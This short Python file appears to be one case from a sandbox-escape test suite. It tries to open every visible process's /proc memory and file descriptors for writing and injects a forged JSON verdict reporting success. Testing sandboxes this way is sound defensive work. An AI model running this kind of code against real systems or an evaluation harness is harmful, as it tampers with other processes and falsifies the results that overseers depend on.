# tries: to write its own verdict through /proc: into the pipes, and into the memory, of every process that it sees
# escape: a pipe or the memory of another process opens for writing
# outcome: exited
# exit: 7
# control: none: outside this would disturb the machine's processes
import glob
import json
import os
import struct

from attack import note

note("forge through /proc")
text = json.dumps({"outcome": "exited", "exit_code": 0, "blobs": [0, 0]}).encode()
own = {f"/proc/{name}" for name in (os.getpid(), "self", "thread-self")}
for process in sorted(set(glob.glob("/proc/[0-9]*")) | {"/proc/1", f"/proc/{os.getppid()}"} - own):
    if process in own:
        continue
    for path in (f"{process}/mem", *(f"{process}/fd/{fd}" for fd in range(64))):
        try:
            file = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError as error:
            note(f"{path}: {error}")
            continue
        print("ESCAPED", path, "opens", flush=True)
        if "/fd/" in path:
            os.write(file, struct.pack(">Q", len(text)) + text)
os._exit(7)
